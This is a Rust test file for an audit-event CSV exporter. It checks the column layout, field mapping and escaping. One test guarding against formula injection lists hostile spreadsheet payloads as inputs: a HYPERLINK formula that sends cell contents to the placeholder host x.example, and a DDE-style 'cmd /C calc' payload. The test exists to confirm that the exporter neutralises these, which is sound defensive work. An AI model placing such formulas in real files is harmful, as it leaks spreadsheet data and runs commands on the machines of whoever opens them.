//! Tests of the CSV columns: the header, every column of a realistic event read back with the `csv`
//! crate, the formula guard, and awkward text.

use std::borrow::Cow;

use serde_json::{json, Value};

use super::super::tests::{body, csv_row, csv_rows, full_event};
use super::super::{stored, ExportFormat, ExportWriter, CSV_COLUMNS};
use crate::event::{Actor, Changes, Context, ErrorInfo, Event, Scope, Source};

#[test]
fn csv_header_is_the_documented_columns_starting_with_the_seeds() {
    let header = ExportWriter::new(ExportFormat::Csv).start();
    assert_eq!(header, CSV_COLUMNS.join(",") + "\r\n");
    assert!(header.starts_with("timestamp,user,action,resource,status,ip_address,"));
    let mut unique = CSV_COLUMNS.to_vec();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(unique.len(), CSV_COLUMNS.len(), "column names are unique");
}

/// Every field of `Event` checked against its column. The patterns are exhaustive on purpose: a field
/// added to `Event` stops this test compiling until it is given a column here and in `columns.rs`.
#[test]
fn a_realistic_event_fills_every_column_from_its_field() {
    let text = full_event();
    let row = csv_row(&text);
    let cell = |name: &str| {
        row.get(name)
            .unwrap_or_else(|| panic!("no column {name}"))
            .as_str()
    };
    let as_json = |name: &str| serde_json::from_str::<Value>(cell(name)).unwrap();

    let Event {
        action,
        actor,
        category,
        changes,
        context,
        description,
        duration_ms,
        error,
        flags,
        hash,
        id,
        idempotency_key,
        metadata,
        occurred_at,
        outcome,
        participants,
        payload,
        prev_hash,
        received_at,
        redacted,
        scope,
        seq,
        severity,
        skew_ms,
        source,
        targets,
        tenant,
    } = serde_json::from_str(&text).unwrap();
    let Actor {
        email,
        id: actor_id,
        name,
        roles,
        kind,
    } = actor;
    let Context {
        geo,
        interface,
        ip,
        request_id,
        session_id,
        trace_id,
        ua,
        user_agent,
    } = context;
    let Scope {
        app,
        environment,
        folder,
        organization,
        project,
        workspace,
    } = scope;
    let Source {
        format,
        name: source_name,
        version,
    } = source;
    let Changes {
        after,
        before,
        changed_fields,
    } = changes.unwrap();
    let ErrorInfo {
        code: error_code,
        message,
    } = error.unwrap();
    let (geo, ua) = (geo.unwrap(), ua.unwrap());

    // The seed's six.
    assert_eq!(cell("timestamp"), "2024-06-12T14:30:22.000Z");
    assert_eq!(cell("timestamp"), occurred_at);
    assert_eq!(cell("user"), "zoe@example.com");
    assert_eq!(cell("action"), action);
    assert_eq!(cell("resource"), "Q2 Sales Report");
    assert_eq!(cell("status"), outcome.as_str());
    assert_eq!(cell("ip_address"), ip.unwrap());
    // The rest, in order.
    assert_eq!(cell("id"), id);
    assert_eq!(cell("received_at"), received_at);
    assert_eq!(cell("skew_ms"), "-150");
    assert_eq!(skew_ms, Some(-150));
    assert_eq!(cell("category"), category.as_str());
    assert_eq!(cell("severity"), severity.as_str());
    assert_eq!(cell("description"), description.unwrap());
    assert_eq!(cell("actor_type"), kind.as_str());
    assert_eq!(cell("actor_id"), actor_id);
    assert_eq!(cell("actor_name"), name.unwrap());
    assert_eq!(cell("actor_email"), email.unwrap());
    assert_eq!(as_json("actor_roles"), value(&roles));
    assert_eq!(as_json("participants"), value(&participants));
    assert_eq!(as_json("targets"), value(&targets));
    for (column, field) in [
        ("environment", environment),
        ("organization", organization),
        ("workspace", workspace),
        ("project", project),
        ("app", app),
        ("folder", folder),
        ("region", geo.region),
        ("city", geo.city),
        ("browser_version", ua.browser_version.clone()),
        ("os_version", ua.os_version.clone()),
        ("user_agent", user_agent),
        ("interface", interface),
        ("session_id", session_id),
        ("request_id", request_id),
        ("trace_id", trace_id),
        ("source_name", source_name),
        ("source_version", version),
        ("error_code", error_code),
        ("idempotency_key", idempotency_key),
        ("prev_hash", prev_hash),
        ("hash", hash),
    ] {
        assert_eq!(cell(column), field.unwrap_or_default(), "column {column}");
    }
    assert_eq!(cell("os_version"), "", "absent fields are empty cells");
    assert_eq!(cell("country"), geo.country);
    assert_eq!(cell("browser"), ua.browser);
    assert_eq!(cell("os"), ua.os);
    assert_eq!(cell("device"), ua.device);
    assert_eq!(cell("source_format"), format);
    assert_eq!(cell("error_message"), message);
    assert_eq!(cell("duration_ms"), duration_ms.unwrap().to_string());
    assert_eq!(as_json("before"), before.unwrap());
    assert_eq!(as_json("after"), after.unwrap());
    assert_eq!(as_json("changed_fields"), value(&changed_fields));
    let payload = payload.unwrap();
    assert_eq!(cell("code"), payload["code"]);
    assert_eq!(as_json("payload"), payload);
    assert_eq!(as_json("metadata"), value(&metadata));
    assert_eq!(as_json("flags"), value(&flags));
    assert_eq!(as_json("redacted"), value(&redacted));
    assert_eq!(cell("tenant"), tenant);
    assert_eq!(cell("seq"), seq.unwrap().to_string());
}

fn value(v: &impl serde::Serialize) -> Value {
    serde_json::to_value(v).unwrap()
}

#[test]
fn json_cells_are_the_stored_text_byte_for_byte() {
    let text = full_event();
    let row = csv_row(&text);
    for column in ["before", "after", "targets", "payload", "metadata"] {
        assert!(
            text.contains(&row[column]),
            "{column} is a slice of the body"
        );
    }
}

#[test]
fn strings_borrow_from_the_body_unless_they_hold_escapes() {
    let text = body(json!({"description": "two\nlines"}));
    let event: stored::Stored<'_> = serde_json::from_str(&text).unwrap();
    assert!(matches!(event.action.unwrap().0, Cow::Borrowed(_)));
    assert!(matches!(event.description.unwrap().0, Cow::Owned(_)));
}

#[test]
fn user_falls_back_to_name_then_id_and_resource_to_type_and_id() {
    let by_name = csv_row(&body(json!({
        "actor": {"type": "user", "id": "u_2", "name": "Bob"},
        "targets": [{"type": "database", "id": "db_9"}]
    })));
    assert_eq!(
        (by_name["user"].as_str(), by_name["resource"].as_str()),
        ("Bob", "database:db_9")
    );
    let by_id = csv_row(&body(json!({"actor": {"type": "api_key", "id": "key_1"}})));
    assert_eq!(
        (by_id["user"].as_str(), by_id["resource"].as_str()),
        ("key_1", "")
    );
}

#[test]
fn formula_starts_are_neutralised_in_text_cells() {
    for evil in [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
        "+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        // A cell that starts with the guard itself is guarded too, so that `'=x` and `=x` differ.
        "'=1+1",
        "'",
    ] {
        let row = csv_row(&body(json!({
            "description": evil,
            "actor": {"type": "user", "id": "u_1", "name": evil},
            "targets": [{"type": "doc", "id": "d1", "name": evil}],
            "payload": {"code": evil},
        })));
        for column in ["description", "user", "actor_name", "resource", "code"] {
            assert_eq!(row[column], format!("'{evil}"), "{column} for {evil:?}");
        }
        // The same text inside a JSON cell starts with a quote, so it is already inert and kept as is.
        assert_eq!(
            serde_json::from_str::<Value>(&row["payload"]).unwrap()["code"],
            evil
        );
    }
}

#[test]
fn ordinary_text_and_negative_numbers_are_untouched() {
    let row = csv_row(&body(json!({
        "description": "Jean-Luc set a=b; cost -5 + tax @ 20%",
        "actor": {"type": "user", "id": "u_1", "name": "Jean-Luc Picard"},
        "skew_ms": -7,
        "changes": {"before": -3, "after": 4, "changed_fields": [""]},
    })));
    assert_eq!(row["description"], "Jean-Luc set a=b; cost -5 + tax @ 20%");
    assert_eq!(row["user"], "Jean-Luc Picard");
    assert_eq!(row["actor_name"], "Jean-Luc Picard");
    assert_eq!(
        (row["skew_ms"].as_str(), row["before"].as_str()),
        ("-7", "-3")
    );
}

#[test]
fn commas_quotes_line_breaks_and_unicode_survive_a_read_back() {
    let code = "defmodule M do\n  def f(a, b), do: \"#{a}, \\\"#{b}\\\"\"\r\nend\n";
    let description = "naïve café, \"quoted\" 日本語 🚀\nsecond line";
    let rows = csv_rows(&[
        &body(json!({"payload": {"code": code}, "description": description})),
        &body(json!({"id": "0190b7a4-2", "description": "next"})),
    ]);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["code"], code);
    assert_eq!(rows[0]["description"], description);
    assert_eq!(rows[1]["description"], "next");
}
